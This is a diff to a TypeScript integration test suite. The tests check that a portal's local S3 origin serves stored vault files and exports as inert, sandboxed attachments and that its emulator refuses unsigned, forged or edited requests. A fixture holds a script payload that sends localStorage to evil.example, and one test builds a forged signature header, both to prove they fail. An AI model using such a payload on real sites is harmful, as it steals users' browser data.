@@ -4,7 +4,8 @@
 // policy, a tampered signature, another key, no encryption field, a field the policy does not name) is
 // refused with S3's status and code, and nothing is stored. A reader as slow as an import gets the whole file.
 // A 200 MB upload passes without being held in memory, and a browser page of the origin uploads under the
-// portal's CSP.
+// portal's CSP. What the origin serves back (vault files, exports) is a download that never runs as a page of
+// the origin, and the emulator's own port answers only requests signed with the handlers' credentials.
 import { mkdtemp, readdir, rm } from 'node:fs/promises';
 import { createServer, request, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -16,6 +17,7 @@ import {
   DeleteObjectCommand,
   GetObjectCommand,
   HeadObjectCommand,
+  ListObjectsV2Command,
   S3Client,
   type S3ClientConfig,
 } from '@aws-sdk/client-s3';
@@ -30,6 +32,8 @@ import {
   uploadedSize,
   uploadWindowSeconds,
 } from '../../lambdas/kernel/findings/uploads.js';
+import { presignExportDownload, putExportObject } from '../../lambdas/kernel/exports/export-objects.js';
+import { presignVaultDownload, presignVaultUpload } from '../../lambdas/kernel/vault/vault-objects.js';
 import { launchBrowser } from '../support/browser.js';
 
 const { appUrl, environment } = inject('localStack');
@@ -113,7 +117,7 @@ describe('a presigned POST through the local origin', () => {
     const key = newKey();
     const content = randomBytes(3_000_000);
     const form = await presign(key, content.length);
-    expect((await post(form.fields, content, form.url)).status).toBe(204);
+    expect((await post(form.fields, content)).status).toBe(204);
 
     // Node's server once cut such a reader off 5 s after it had handed the last bytes to the socket.
     let received = 0;
@@ -329,6 +333,131 @@ describe('a presigned GET through the local origin', () => {
     await s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: other.key }));
     const gone = await presignGet(other.key, { expiresSeconds: 60, forBrowser: true });
     expect(await get(gone)).toMatchObject({ response: { status: 404 }, code: 'NoSuchKey' });
+  });
+});
+
+describe('a stored file served on the origin', () => {
+  const page = '<!doctype html><script>fetch("https://evil.example/?" + JSON.stringify(localStorage))</script>';
+  const inert = {
+    'content-type': 'application/octet-stream',
+    'x-content-type-options': 'nosniff',
+    'content-security-policy': "sandbox; default-src 'none'",
+  };
+  const headersOf = (response: Response, names: string[]) =>
+    Object.fromEntries(names.map((name) => [name, response.headers.get(name)]));
+
+  it('hands out an HTML file posted as a vault file as an attachment: octet-stream, nosniff, sandboxed', async () => {
+    const linkId = randomBytes(16).toString('base64url');
+    const content = new TextEncoder().encode(page);
+    const upload = await presignVaultUpload(linkId, content.length);
+    const form = new FormData();
+    for (const [name, value] of Object.entries(upload.fields)) form.append(name, value);
+    form.append('file', new Blob([content], { type: 'text/html' }), 'page.html');
+    expect((await fetch(new URL(upload.url, appUrl), { method: 'POST', body: form })).status).toBe(204);
+
+    const url = await presignVaultDownload(linkId);
+    const response = await fetch(new URL(url, appUrl));
+
+    expect(url.startsWith(`/s3/${bucket}/vault/`)).toBe(true);
+    expect(response.status).toBe(200);
+    expect(headersOf(response, Object.keys(inert))).toEqual(inert);
+    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
+    expect(await response.text()).toBe(page);
+  });
+
+  it('hands out an export through the origin as an attachment under its file name, whatever its stored type', async () => {
+    const key = `exports/acme/dast/${randomBytes(8).toString('hex')}.csv`;
+    await putExportObject(key, new TextEncoder().encode(page), 'text/html');
+
+    const url = await presignExportDownload(key, 'Acme <findings>.csv');
+    const response = await fetch(new URL(url, appUrl));
+
+    expect(url.startsWith(`/s3/${bucket}/exports/`)).toBe(true);
+    expect(response.status).toBe(200);
+    expect(headersOf(response, Object.keys(inert))).toEqual(inert);
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="Acme__findings_.csv"');
+  });
+
+  it('sends nosniff and the sandbox on a link without overrides too; a link edited to ask for a page is refused', async () => {
+    const linkId = randomBytes(16).toString('base64url');
+    const content = new TextEncoder().encode(page);
+    const upload = await presignVaultUpload(linkId, content.length);
+    const form = new FormData();
+    for (const [name, value] of Object.entries(upload.fields)) form.append(name, value);
+    form.append('file', new Blob([content], { type: 'text/html' }), 'page.html');
+    expect((await fetch(new URL(upload.url, appUrl), { method: 'POST', body: form })).status).toBe(204);
+
+    const plain = await fetch(
+      new URL(await presignGet(`vault/${linkId}`, { expiresSeconds: 60, forBrowser: true }), appUrl),
+    );
+    const edited = (await presignVaultDownload(linkId)).replace(
+      'response-content-type=application%2Foctet-stream',
+      'response-content-type=text%2Fhtml',
+    );
+
+    expect(plain.status).toBe(200);
+    expect(headersOf(plain, ['x-content-type-options', 'content-security-policy'])).toEqual({
+      'x-content-type-options': 'nosniff',
+      'content-security-policy': "sandbox; default-src 'none'",
+    });
+    expect(edited).toContain('response-content-type=text%2Fhtml');
+    expect((await fetch(new URL(edited, appUrl))).status).toBe(403);
+  });
+});
+
+describe('the S3 emulator’s own port', () => {
+  const endpoint = environment.AWS_ENDPOINT_URL_S3!;
+
+  it('refuses unsigned requests: no bucket list, no object list, no read, no write', async () => {
+    const key = newKey();
+    const upload = await presign(key, 10);
+    expect((await post(upload.fields, bytes(10))).status).toBe(204);
+
+    const answers = await Promise.all([
+      fetch(`${endpoint}/`),
+      fetch(`${endpoint}/${bucket}`),
+      fetch(`${endpoint}/${bucket}?list-type=2&prefix=exports/`),
+      fetch(`${endpoint}/${bucket}/${key}`),
+      fetch(`${endpoint}/${bucket}/${newKey()}`, { method: 'PUT', body: 'planted' }),
+    ]);
+
+    expect(answers.map((answer) => answer.status)).toEqual([403, 403, 403, 403, 403]);
+    for (const answer of answers) expect(await answer.text()).not.toContain(key);
+  });
+
+  it('refuses a request signed with another secret, a forged signature and an edited presigned URL', async () => {
+    const key = newKey();
+    const upload = await presign(key, 10);
+    expect((await post(upload.fields, bytes(10))).status).toBe(204);
+    const otherSecret = new S3Client({
+      forcePathStyle: true,
+      credentials: { accessKeyId: environment.AWS_ACCESS_KEY_ID!, secretAccessKey: 'not-the-local-secret' },
+    });
+    const direct = await presignGet(key, { expiresSeconds: 60 });
+    const otherKey = direct.replace(key, newKey());
+
+    const foreign = await otherSecret.send(new ListObjectsV2Command({ Bucket: bucket })).catch((error: Error) => error);
+    otherSecret.destroy();
+    const amzDate = new Date()
+      .toISOString()
+      .replace(/[-:]/g, '')
+      .replace(/\.\d{3}/, '');
+    const scope = `${amzDate.slice(0, 8)}/${environment.AWS_REGION}/s3/aws4_request`;
+    const forged = await fetch(`${endpoint}/${bucket}`, {
+      headers: {
+        authorization: `AWS4-HMAC-SHA256 Credential=${environment.AWS_ACCESS_KEY_ID}/${scope}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=${'0'.repeat(64)}`,
+        'x-amz-date': amzDate,
+        'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
+      },
+    });
+
+    expect((foreign as Error).name).toBe('SignatureDoesNotMatch');
+    expect(forged.status).toBe(403);
+    expect((await fetch(otherKey)).status).toBe(403);
+    // The handlers' own signed requests and links still work.
+    expect((await fetch(direct)).status).toBe(200);
+    const listed = await s3.send(new ListObjectsV2Command({ Bucket: bucket, Prefix: key }));
+    expect(listed.Contents?.map((object) => object.Key)).toEqual([key]);
   });
 });
 
